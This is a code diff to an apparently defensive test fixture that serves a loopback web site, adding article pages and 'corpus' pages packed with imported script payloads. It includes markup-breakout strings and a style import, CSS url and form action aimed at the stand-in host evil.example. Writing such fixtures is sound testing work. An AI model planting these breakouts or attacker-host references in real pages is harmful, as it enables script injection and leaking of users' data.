@@ -1,5 +1,5 @@
 import { type HttpServer, scriptPayloads, startHttpServer } from "@satchel/testing";
-import { HOSTILE_SVG, hostilePage } from "./hostile-texts.ts";
+import { HOSTILE_SVG, hostilePage, hostileTexts } from "./hostile-texts.ts";
 
 const SVG = "image/svg+xml";
 /** A page with a script payload as its title, escaped (even numbers) or not. */
@@ -8,6 +8,40 @@ function payloadPage(number: number): string {
   const written = number % 2 === 0 ? text.replaceAll(/[&<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`) : text;
   return `<!doctype html><meta charset="utf-8"><title>${written}</title><meta name="description" content="${written}">
 <meta property="og:site_name" content="${written}"><meta name="keywords" content="${written}"><h1>${written}</h1>`;
+}
+
+const SENTENCES =
+  "The moon draws the water towards it, and the bay fills twice a day, a little later each time. Who walks there learns to read the sand, the wind, and the hour at which the causeway is dry. ";
+
+/** An article with what articles have: sections, a picture, a quotation, code, a table, a note. */
+const articlePage = (title: string): string => `<!doctype html>
+<html lang="en"><head><meta charset="utf-8"><title>${title}</title><meta name="author" content="Ida Marsh"></head>
+<body><nav><a href="/">Home</a></nav><article><h1>${title}</h1><p>${SENTENCES.repeat(4)}</p>
+<h2>Spring and neap</h2><p>${SENTENCES.repeat(5)}</p><figure><img src="/figure.png" alt="The bay" width="640" height="320"><figcaption>The bay at low water</figcaption></figure>
+<blockquote><p>Time and tide wait for nobody, and the tide is the more punctual of the two.</p></blockquote>
+<h2>Reading a table</h2><p>${SENTENCES.repeat(4)}</p><table><thead><tr><th>Day</th><th>High</th><th>Low</th></tr></thead><tbody><tr><td>Monday</td><td>06:12</td><td>12:25</td></tr><tr><td>Tuesday</td><td>07:01</td><td>13:14</td></tr></tbody></table>
+<h3>By program</h3><pre><code>const next = (tide) => tide + 12.42 * HOUR; // hours between two high waters of the moon</code></pre>
+<h2>Walking out</h2><ul><li>Ask at the harbour.</li><li>Be back an hour early.</li></ul><p>${SENTENCES.repeat(9)}</p></article></body></html>`;
+
+/** Ends of the elements in which what follows would be no markup. */
+const ENDINGS = "</script></style></textarea></title></xmp></noscript></template></select></svg></math>-->]]>";
+
+/** Texts of one page: more of them, never closed, would be nested too deep to be an ordinary page. */
+const CORPUS_TEXTS = 60;
+const corpus = [...hostileTexts, ...scriptPayloads];
+
+/** Pages that have all hostile texts and script payloads together, each as markup in the page and in an attribute. */
+export const CORPUS_PAGES = Math.ceil(corpus.length / CORPUS_TEXTS);
+
+/** A page to be kept, with so many of them, behind more text than in which a refresh is searched. */
+function corpusPage(number: number): string {
+  const texts = corpus.slice(number * CORPUS_TEXTS, (number + 1) * CORPUS_TEXTS);
+  const words = "Words of an article, with commas, that go on for a while about tides, the moon, and the harbour. ";
+  const parts = texts.map((text) => `<p>${words.repeat(2)}</p><div title="${text}">${text}${ENDINGS}</div>`);
+  return `<!doctype html><html lang="en"><meta charset="utf-8"><title>Corpus ${number}</title>
+<style>@import '//evil.example/x.css';h1{background:url(//evil.example/y)}</style>
+<form action="//evil.example/" id="sent"><input name="a"><button>Send</button></form>
+<article><h1>Corpus ${number}</h1><p>${words.repeat(200)}</p>${parts.join("\n")}</article>`;
 }
 
 /** 64 × 64 px, brass. */
@@ -28,8 +62,9 @@ const page = (title: string): string => `<!doctype html>
 </head><body><h1>${title}</h1></body></html>`;
 
 /**
- * A web site on loopback: `/pages/<title>` is a page of that title, with picture and icon, and `/moved/<title>` redirects to
- * it. `/hostile/<number>`, `/raw/<number>` and `/payload/<number>/…` are pages that try to run scripts where they are shown.
+ * A web site on loopback: `/pages/<title>` is a page of that title, with picture and icon, `/articles/<title>` an article, and `/moved/<title>` redirects to
+ * it. `/hostile/<number>`, `/raw/<number>` and `/payload/<number>/…` are pages that try to run scripts where they are shown, and
+ * `/corpus/<number>` where a copy of them is.
  */
 export const startSite = (): Promise<HttpServer> =>
   startHttpServer((request, response) => {
@@ -38,6 +73,9 @@ export const startSite = (): Promise<HttpServer> =>
     const path = pathname.startsWith("/payload/") ? pathname : decodeURIComponent(pathname);
     const send = (type: string, body: string | Buffer) => response.writeHead(200, { "content-type": type }).end(body);
     if (path.startsWith("/pages/")) send("text/html; charset=utf-8", page(path.slice("/pages/".length)));
+    else if (path.startsWith("/articles/"))
+      send("text/html; charset=utf-8", articlePage(path.slice("/articles/".length)));
+    else if (path.startsWith("/corpus/")) send("text/html; charset=utf-8", corpusPage(Number(path.slice(8))));
     else if (path.startsWith("/payload/")) send("text/html", payloadPage(Number.parseInt(path.slice(9), 10)));
     else if (path.startsWith("/moved/"))
       response.writeHead(302, { location: `/pages/${encodeURIComponent(path.slice("/moved/".length))}` }).end();
